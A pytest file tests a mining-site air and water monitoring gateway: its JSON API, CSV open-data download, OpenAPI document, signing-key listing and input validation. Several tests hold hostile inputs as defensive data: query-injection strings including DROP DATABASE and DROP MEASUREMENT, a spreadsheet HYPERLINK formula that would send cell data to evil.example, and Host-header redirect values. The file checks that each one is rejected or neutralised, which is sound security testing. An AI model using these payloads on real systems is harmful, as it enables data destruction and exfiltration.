"""The JSON API and the download against a real influxd holding a week of readings and alerts, and
the input validation: every bad query string is a 400 with a message, never a 500 or an injection."""

from __future__ import annotations

import csv
import http.client
import io
import urllib.parse
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway import aqi, devservices
from gateway.config import InfluxConfig, WebConfig
from gateway.devservices import free_port
from gateway.maintenance import Visit
from gateway.stores.influx_read import InfluxReader
from gateway.stores.influx_v1 import InfluxV1
from gateway.stores.influxql import ident
from gateway.stores.influxql import string as literal
from gateway.web.app import create_app, relative_location
from gateway.web.opendata import COLUMNS
from gateway.web.server import BackgroundServer
from tests.webdata import ACTIVE_ID, ACTIVE_MESSAGE, NOW, Site, alert_lines, served_site, site_lines


@pytest.fixture(scope="module")
def site(influxd: devservices.Service) -> Iterator[Site]:
    with served_site(influxd.port, lines=[*site_lines(), *alert_lines(ids=True)]) as s:
        yield s


def test_latest_gives_each_nodes_last_reading_with_nowcast_and_turbidity_level(site: Site) -> None:
    status, body, _ = site.get("/api/v1/latest")
    assert status == 200
    by_node = {n["node"]: n for n in body}
    assert list(by_node) == ["haul-road", "river-down", "river-up"]
    haul = by_node["haul-road"]
    assert haul["time"] == "2026-11-22T12:00:30Z"
    assert haul["values"] == {
        "pm2_5": {"value": 80.0, "unit": "µg/m³"},
        "pm10": {"value": 128.0, "unit": "µg/m³"},
        # what else a PMS5003 kit sends (its last reading here): every metric has its unit
        "pm2_5_atm": {"value": 52.0, "unit": "µg/m³"},
        "pc0_3": {"value": 9120.0, "unit": "particles/0.1 L"},
    }
    # hourly means, latest full hour first: 11 h and 10 h at 80, 9 h at (20 + 11 × 80) / 12, then 20
    hourly = [80.0, 80.0, 75.0] + [20.0] * 9
    expected = aqi.nowcast(hourly)
    assert expected == 71.8
    assert haul["nowcast_pm2_5"] == expected
    assert haul["aqi"] == aqi.aqi(expected) == 162
    assert haul["aqi_category"] == "unhealthy"
    assert by_node["river-down"]["turbidity_level"] == "cloudy"
    assert by_node["river-down"]["values"]["turbidity"]["value"] == 12.5
    assert by_node["river-up"]["offline"] is True
    assert by_node["river-up"]["age_s"] == 7200.0


def test_nodes_carry_position_status_and_freshness(site: Site) -> None:
    status, body, _ = site.get("/api/v1/nodes", site="tsagaan")
    assert status == 200
    nodes = {n["node"]: n for n in body}
    assert (nodes["haul-road"]["lat"], nodes["haul-road"]["lon"]) == (43.1105, 106.8503)
    assert nodes["haul-road"]["status"] == "online" and nodes["haul-road"]["offline"] is False
    assert nodes["river-up"]["status"] == "offline" and nodes["river-up"]["lat"] is None
    assert site.get("/api/v1/nodes", site="elsewhere")[1] == []


def test_series_gives_bucket_means_and_the_limits(site: Site) -> None:
    status, body, _ = site.get(
        "/api/v1/nodes/tsagaan/haul-road/series",
        start="2026-11-22T09:00:00Z",
        end="2026-11-22T12:00:00Z",
        every="1h",
    )
    assert status == 200
    assert body["times"] == ["2026-11-22T09:00:00Z", "2026-11-22T10:00:00Z", "2026-11-22T11:00:00Z"]
    assert body["series"] == {"pm2_5": [75.0, 80.0, 80.0], "pm10": [120.0, 128.0, 128.0]}
    assert body["units"]["pm2_5"] == "µg/m³"
    limits = {(x["standard"], x["value"]) for x in body["limits"]["pm2_5"]}
    assert limits == {("who-2021", 15.0), ("us-epa", 35.0), ("mns-4585-2016", 50.0)}


def test_series_defaults_to_the_last_24_hours_and_one_metric_on_request(site: Site) -> None:
    status, body, _ = site.get("/api/v1/nodes/tsagaan/river-down/series", metric="turbidity")
    assert status == 200
    assert body["end"] == "2026-11-22T12:00:30Z" and body["every_s"] == 300
    assert list(body["series"]) == ["turbidity"]
    assert {v for v in body["series"]["turbidity"] if v is not None} == {12.5}
    # an offset is honoured: 14:00+02:00 is 12:00 UTC
    status, body, _ = site.get(
        "/api/v1/nodes/tsagaan/river-down/series",
        start="2026-11-22T13:00:00+02:00",
        end="2026-11-22T14:00:00+02:00",
        every="1h",
    )
    assert body["times"] == ["2026-11-22T11:00:00Z"]


def test_alerts_history_and_active(site: Site) -> None:
    status, body, _ = site.get("/api/v1/alerts")
    assert status == 200
    assert [(a["node"], a["state"]) for a in body] == [
        ("haul-road", "reminder"),
        ("haul-road", "raised"),
        ("river-down", "cleared"),
        ("river-down", "raised"),
    ]
    assert body[0]["message"] == ACTIVE_MESSAGE and body[0]["limit"] == 50.0 and body[0]["late"] is False
    # each event's alert id, what `ack` and the ack topic take; null for an event stored before ids
    assert [a["id"] for a in body] == [ACTIVE_ID, ACTIVE_ID, None, None]
    assert len(site.get("/api/v1/alerts", node="river-down", limit="1")[1]) == 1
    river = site.get("/api/v1/alerts", node="river-down")[1]
    assert [(a["node"], a["state"]) for a in river] == [("river-down", "cleared"), ("river-down", "raised")]
    assert site.get("/api/v1/alerts", site="elsewhere")[1] == []
    assert site.get("/api/v1/alerts/active", site="elsewhere")[1] == []
    assert site.get("/api/v1/latest", site="elsewhere")[1] == []
    status, active, headers = site.get("/api/v1/alerts/active")
    assert [(a["node"], a["rule"], a["state"]) for a in active] == [("haul-road", "pm25-1h", "reminder")]
    assert active[0]["id"] == ACTIVE_ID
    assert headers["x-total-count"] == "1" and "link" not in headers  # one page (docs/api.md)
    _, beyond, headers = site.get("/api/v1/alerts/active", offset="1")
    assert beyond == [] and headers["x-total-count"] == "1" and "link" not in headers
    assert site.get("/api/v1/alerts/active", limit="0")[0] == 400
    assert site.get("/api/v1/alerts/active", limit="1001")[0] == 400


def test_openapi_describes_every_route(site: Site) -> None:
    status, doc, _ = site.get("/api/v1/openapi.json")
    assert status == 200 and doc["openapi"].startswith("3.")
    assert set(doc["paths"]) == {
        "/api/v1/nodes",
        "/api/v1/latest",
        "/api/v1/nodes/{site}/{node}/series",
        "/api/v1/alerts",
        "/api/v1/alerts/active",
        "/api/v1/keys",
        "/api/v1/observations",
    }
    assert {"Node", "Latest", "Series", "Alert", "Key", "Error"} <= set(doc["components"]["schemas"])
    every = next(
        p
        for p in doc["paths"]["/api/v1/nodes/{site}/{node}/series"]["get"]["parameters"]
        if p["name"] == "every"
    )
    assert "1h" in every["schema"]["enum"]
    for paged in ("/api/v1/nodes", "/api/v1/latest", "/api/v1/alerts/active"):
        get = doc["paths"][paged]["get"]
        assert {"limit", "offset"} <= {p["name"] for p in get["parameters"]}
        assert {"X-Total-Count", "Link"} <= set(get["responses"]["200"]["headers"])


def test_csv_download_has_the_documented_columns_and_licence(site: Site) -> None:
    status, text, headers = site.get(
        "/download/readings.csv",
        site="tsagaan",
        node="haul-road",
        start="2026-11-22T11:00:00Z",
        end="2026-11-22T12:00:00Z",
    )
    assert status == 200
    assert headers["content-type"].startswith("text/csv")
    assert headers["x-data-licence"] == "CC BY 4.0" and 'rel="license"' in headers["link"]
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == 12
    first = rows[0]
    assert first["time"] == "2026-11-22T11:00:30.000Z" and first["seq"] == "2293"
    assert first["pm2_5"] == "80.0" and first["pm2_5_raw"] == "88.0"  # floats, as stored
    assert first["pm2_5_n"] == "300" and first["pm2_5_cal"] == "pms-a@2026-10-01" and first["flags"] == ""


def test_the_download_marks_the_readings_a_visit_flagged_and_keeps_them(
    influxd: devservices.Service,
) -> None:
    """A visit's marked window (the turbidity window out of the water) shows in the download's
    `maintenance` column; the readings are all there, unchanged; a node of the same name at another
    site marks nothing here."""
    at = NOW - timedelta(minutes=45)  # 11:15:30

    def visit(site: str, kind: str) -> str:
        return Visit(
            site=site,
            node="haul-road",
            kind=kind,
            at=at,
            by="Bold",
            note="",
            flag_from=at - timedelta(minutes=5),  # (11:10:30, 11:20:30]: two readings, 11:15:30 and 11:20:30
            flag_to=at + timedelta(minutes=5),
            recorded=at,
        ).to_line()

    lines = site_lines() + alert_lines() + [visit("tsagaan", "cleaned"), visit("elsewhere", "moved")]
    with served_site(influxd.port, lines=lines) as fresh:
        window = {"start": "2026-11-22T11:00:00Z", "end": "2026-11-22T12:00:00Z"}
        status, text, _ = fresh.get("/download/readings.csv", **window)
        assert status == 200
        rows = list(csv.DictReader(io.StringIO(text)))
        assert tuple(rows[0]) == COLUMNS and COLUMNS[-1] == "maintenance"
        haul = [r for r in rows if r["node"] == "haul-road"]
        assert len(haul) == 12  # marked, never removed
        marked = {r["time"]: r["maintenance"] for r in rows if r["maintenance"]}
        assert marked == {"2026-11-22T11:15:30.000Z": "cleaned", "2026-11-22T11:20:30.000Z": "cleaned"}
        assert all(r["flags"] == "" for r in haul if r["maintenance"])  # the signed flags untouched
        status, text, _ = fresh.get("/download/readings.csv", site="tsagaan", node="river-down", **window)
        assert {r["maintenance"] for r in csv.DictReader(io.StringIO(text))} == {""}


def test_a_formula_in_old_data_is_downloaded_as_text_and_numbers_stay_numbers(
    influxd: devservices.Service,
) -> None:
    """A `cal` id written before the contract refused formulas (straight into InfluxDB) reaches the
    open-data CSV quoted, so a spreadsheet shows it instead of running it."""
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"calibration")'
    with served_site(influxd.port) as fresh:
        escaped = formula.replace('"', '\\"')  # line protocol: a quote inside a string field
        line = (
            "reading,node=haul-road,site=tsagaan "
            f'pm2_5=12.5,pm2_5_raw=14.0,pm2_5_n=60i,pm2_5_cal="{escaped}",'
            'air_temp=-5.2,air_temp_raw=-5.0,air_temp_n=60i,air_temp_cal="+cmd",seq=1i,flags="" '
            "1795000000000"  # 2026-11-18T11:06:40Z
        )
        fresh.db.write([line])
        status, text, _ = fresh.get(
            "/download/readings.csv",
            site="tsagaan",
            node="haul-road",
            start="2026-11-18T11:00:00Z",
            end="2026-11-18T11:10:00Z",
        )
    assert status == 200
    (row,) = [r for r in csv.DictReader(io.StringIO(text, newline="")) if r["seq"] == "1"]
    assert row["pm2_5_cal"] == "'" + formula and row["air_temp_cal"] == "'+cmd"
    assert (row["air_temp"], row["air_temp_raw"], row["pm2_5"]) == ("-5.2", "-5.0", "12.5")


def test_pages_answer_and_stay_small(site: Site) -> None:
    """Each page with what it loads (CSS, scripts) stays under 200 KB for a slow phone link."""
    for path, assets in (
        ("/", ["/static/site.css", "/static/site.js"]),
        (
            "/node/tsagaan/haul-road",
            ["/static/site.css", "/static/site.js", "/static/uPlot.iife.min.js", "/static/uPlot.min.css"],
        ),
        ("/alerts", ["/static/site.css"]),
        ("/download", ["/static/site.css"]),
    ):
        status, html, headers = site.get(path)
        assert status == 200, path
        assert "default-src 'self'" in headers["content-security-policy"]
        total = len(html.encode())
        for asset in assets:
            assert asset in html
            total += len(site.get(asset)[1].encode())
        assert total < 200_000, f"{path}: {total} bytes"


def test_unknown_node_is_404_and_writes_are_refused(site: Site) -> None:
    assert site.get("/node/tsagaan/nobody")[0] == 404
    assert site.get("/api/v1/nothing")[0] == 404
    assert site.get("/api/v1/nothing")[1] == {"error": "Not Found"}


BAD = [
    ("/api/v1/nodes/tsagaan/Haul%20Road/series", "node: must be an id"),
    ("/api/v1/nodes/tsagaan/haul-road'%20OR%20'1'='1/series", "node: must be an id"),
    ('/api/v1/nodes/tsagaan/haul-road"%3BDROP%20DATABASE%20x/series', "node: must be an id"),
    ("/api/v1/nodes/tsagaan/haul-road/series?every=7m", "every:"),
    ("/api/v1/nodes/tsagaan/haul-road/series?every=1h)%3B%20DROP%20MEASUREMENT%20reading", "every:"),
    ("/api/v1/nodes/tsagaan/haul-road/series?start=yesterday", "start:"),
    ("/api/v1/nodes/tsagaan/haul-road/series?start=2026-11-22T10:00:00", "start:"),  # no zone
    ("/api/v1/nodes/tsagaan/haul-road/series?start=2026-13-45", "start:"),
    ("/api/v1/nodes/tsagaan/haul-road/series?start=1800-01-01", "between 2000 and 2100"),
    ("/api/v1/nodes/tsagaan/haul-road/series?start=2026-11-22&end=2026-11-21", "start must be before end"),
    ("/api/v1/nodes/tsagaan/haul-road/series?start=2020-01-01&end=2026-01-01", "at most 366 days"),
    ("/api/v1/nodes/tsagaan/haul-road/series?start=2026-01-01&end=2026-11-01&every=1m", "more than 5000"),
    ("/api/v1/nodes/tsagaan/haul-road/series?metric=pm2_5%20FROM%20x", "metric:"),
    ("/api/v1/nodes/tsagaan/haul-road/series?every=1h&every=1d", "given 2 times"),
    ("/api/v1/nodes/tsagaan/haul-road/series?frobnicate=1", "frobnicate: unknown parameter"),
    ("/api/v1/alerts?limit=0", "limit:"),
    ("/api/v1/alerts?limit=1e9", "limit:"),
    ("/api/v1/alerts?node=x'%20OR%201=1", "node: must be an id"),
    ("/api/v1/latest?site=%00", "site: must be an id"),
    ("/download/readings.csv?start=2026-01-01&end=2026-11-01", "at most 31 days"),
    ("/download/readings.csv?node=A%2FB", "site: must be an id"),
]


@pytest.mark.parametrize(("path", "message"), BAD)
def test_bad_input_is_a_400_with_a_message(site: Site, path: str, message: str) -> None:
    status, text = site.get_raw(path)
    assert status == 400, text[:300]
    assert message in text
    assert site.db.count() > 3000  # and the data is all still there


def test_a_query_parameter_cannot_override_the_path(site: Site) -> None:
    assert site.get_raw("/api/v1/nodes/tsagaan/haul-road/series?site=elsewhere")[0] == 400


def test_bad_input_on_a_page_is_a_400_page(site: Site) -> None:
    status, text = site.get_raw("/alerts?start=soon")
    assert status == 400
    assert 'id="error"' in text and "start:" in text


@settings(max_examples=60)
@given(
    key=st.sampled_from(["start", "end", "every", "metric", "site", "node", "limit"]),
    value=st.text(max_size=40),
    path=st.sampled_from(
        ["/api/v1/nodes/tsagaan/haul-road/series", "/api/v1/alerts", "/download/readings.csv"]
    ),
)
def test_no_query_string_makes_a_500(site: Site, key: str, value: str, path: str) -> None:
    status, _ = site.get_raw(f"{path}?{urllib.parse.urlencode({key: value})}")
    assert status in (200, 400), (path, key, value, status)


@pytest.mark.parametrize(
    ("path", "location"),
    [("/static", "/static/"), ("/static?v=2", "/static/?v=2"), ("/api/v1/nodes/", "/api/v1/nodes")],
)
def test_a_redirect_never_goes_to_the_host_the_request_named(site: Site, path: str, location: str) -> None:
    """Starlette builds a redirect from the `Host:` header, which anyone can set (and a cache may
    keep the answer for everyone): the redirect stays a path on this site."""
    port = urllib.parse.urlsplit(site.url).port
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request("GET", path, headers={"Host": "evil.example", "X-Forwarded-Host": "evil.example"})
        resp = conn.getresponse()
        resp.read()
    finally:
        conn.close()
    assert 300 <= resp.status < 400
    assert resp.getheader("location") == location
    assert site.get(location)[0] in (200, 404)  # the target is on this site (/static/ lists nothing)


@pytest.mark.parametrize(
    ("given", "relative"),
    [
        (b"http://evil.example/static/", b"/static/"),
        (b"https://evil.example:8443/a?b=1#c", b"/a?b=1#c"),
        (b"//evil.example/x", b"/x"),
        (b"/\\evil.example/x", b"/evil.example/x"),
        (b"http://evil.example", b"/"),
        (b"/node/tsagaan/haul-road", b"/node/tsagaan/haul-road"),
    ],
)
def test_a_location_keeps_only_its_path(given: bytes, relative: bytes) -> None:
    assert relative_location(given) == relative


def test_quoting_escapes_what_would_end_a_string_or_identifier() -> None:
    assert literal("a'b\\") == "'a\\'b\\\\'"
    assert ident('x"y') == '"x\\"y"'


def test_now_in_the_app_is_the_injected_clock(site: Site) -> None:
    """The footer says when the page was made: the test's stopped clock, not the machine's."""
    assert (NOW - timedelta(seconds=30)).strftime("%Y-%m-%d %H:%M") in site.get("/alerts")[1]


def test_a_database_that_does_not_answer_is_a_503_not_a_500() -> None:
    web = WebConfig(port=free_port())
    dead = InfluxV1(InfluxConfig(url=f"http://127.0.0.1:{free_port()}", database="minewatch"))  # type: ignore[arg-type]
    server = BackgroundServer(create_app(web, InfluxReader(dead), clock=lambda: NOW), web)
    server.start()
    try:
        page = Site(f"http://127.0.0.1:{web.port}", None)  # type: ignore[arg-type]
        status, body, _ = page.get("/api/v1/latest")
        assert (status, body) == (503, {"error": "the database does not answer; try again later"})
        status, text, _ = page.get("/")
        assert status == 503 and "does not answer" in text
    finally:
        server.stop()


def test_the_keys_are_published_with_their_validity_revoked_ones_too(tmp_path: Path) -> None:
    """A third party needs every key that ever signed, and until when each one vouches."""
    from contract.signing import Signer
    from gateway.trust.provision import register
    from gateway.trust.registry import KeyStatus, load_dir, save

    keys = tmp_path / "keys"
    old, new, other = (Signer.from_seed(bytes([i]) * 32) for i in (1, 2, 3))
    register(keys, "tsagaan", "haul-road", old, now=NOW - timedelta(days=60))
    register(keys, "tsagaan", "haul-road", new, now=NOW - timedelta(days=30))
    register(keys, "other", "x", other, now=NOW)
    since = NOW - timedelta(days=30)
    save(keys, load_dir(keys)[old.kid].model_copy(update={"status": KeyStatus.REVOKED, "since": since}))
    web = WebConfig(port=free_port())
    dead = InfluxV1(InfluxConfig(url=f"http://127.0.0.1:{free_port()}", database="minewatch"))  # type: ignore[arg-type]
    server = BackgroundServer(create_app(web, InfluxReader(dead), clock=lambda: NOW, keys_dir=keys), web)
    server.start()
    try:
        page = Site(f"http://127.0.0.1:{web.port}", None)  # type: ignore[arg-type]
        status, body, _ = page.get("/api/v1/keys", site="tsagaan")
        assert status == 200
        assert [(k["kid"], k["status"], k["valid_until"]) for k in body] == [
            (old.kid, "revoked", "2026-10-23T12:00:30Z"),
            (new.kid, "active", None),
        ]
        assert "stored (column `received`) before 2026-10-23T12:00:30Z" in body[0]["vouches_for"]
        assert len(body[0]["fingerprint"]) == 64 and body[0]["public_key"].endswith("=")
        assert len(page.get("/api/v1/keys")[1]) == 3
    finally:
        server.stop()
